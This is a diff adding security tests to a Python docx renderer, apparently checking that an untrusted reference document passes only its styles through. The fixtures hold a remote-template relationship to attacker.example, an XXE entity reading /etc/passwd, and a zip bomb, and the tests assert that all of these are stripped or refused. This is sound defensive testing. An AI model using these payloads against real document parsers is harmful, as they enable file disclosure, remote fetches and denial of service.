@@ -106,3 +106,69 @@ def test_reference_output_is_deterministic(
     reference_docx: Path, layout: Layout, fonts: FontSet, with_reference: Docx
 ) -> None:
     assert render_docx(every_block_document(), layout, fonts, reference=reference_docx) == with_reference.data
+
+
+# --- a reference document is untrusted (issue 12) --------------------------------------------------------
+
+
+def _hostile_reference(tmp_path: Path, **replace: bytes) -> Path:
+    """A real .docx with a macro, a remote template, comments, custom properties and `replace`d parts."""
+    plain = tmp_path / "plain.docx"
+    word = docx.Document()
+    word.add_paragraph("reference body")
+    word.save(plain)
+    hostile = tmp_path / "hostile.docx"
+    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(hostile, "w", zipfile.ZIP_DEFLATED) as out:
+        for item in src.infolist():
+            out.writestr(item, replace.pop(item.filename, src.read(item)))
+        out.writestr("word/vbaProject.bin", b"MACRO-PAYLOAD")
+        out.writestr(
+            "word/_rels/settings.xml.rels",
+            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            'attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
+        )
+        out.writestr(
+            "word/comments.xml", '<w:comments xmlns:w="x"><w:comment w:author="Secret Reviewer"/></w:comments>'
+        )
+        out.writestr("docProps/custom.xml", "<Properties><property name='ClientSecret'>s3cr3t</property></Properties>")
+        for name, data in replace.items():
+            out.writestr(name, data)
+    return hostile
+
+
+def test_only_styles_come_from_a_reference_never_macros_remote_templates_comments_or_properties(
+    tmp_path: Path, render_fonts: FontSet, layout: Layout
+) -> None:
+    data = render_docx(every_block_document(), layout, render_fonts, reference=_hostile_reference(tmp_path))
+    with zipfile.ZipFile(io.BytesIO(data)) as made:
+        names = made.namelist()
+        everything = b"".join(made.read(n) for n in names)
+    assert not [n for n in names if "vbaProject" in n or "comments" in n or n == "docProps/custom.xml"]
+    for leaked in (b"attacker.example", b"attachedTemplate", b"MACRO-PAYLOAD", b"Secret Reviewer", b"ClientSecret"):
+        assert leaked not in everything, leaked
+    assert b"reference body" not in everything
+
+
+XXE = (
+    b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+    b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&e;</w:styles>'
+)
+
+
+def test_a_reference_with_entities_is_refused_with_a_message(
+    tmp_path: Path, render_fonts: FontSet, layout: Layout
+) -> None:
+    reference = _hostile_reference(tmp_path, **{"word/styles.xml": XXE})
+    with pytest.raises(UserError, match="declares a DTD or entities"):
+        render_docx(every_block_document(), layout, render_fonts, reference=reference)
+
+
+def test_a_zip_bomb_reference_is_refused_before_it_is_unpacked(
+    tmp_path: Path, render_fonts: FontSet, layout: Layout
+) -> None:
+    bomb = b'<?xml version="1.0"?><w:styles xmlns:w="x">' + b" " * (200 * 1024 * 1024) + b"</w:styles>"
+    reference = _hostile_reference(tmp_path, **{"word/styles.xml": bomb})
+    assert reference.stat().st_size < 2 * 1024 * 1024
+    with pytest.raises(UserError, match="unpacks to 209,715,"):
+        render_docx(every_block_document(), layout, render_fonts, reference=reference)
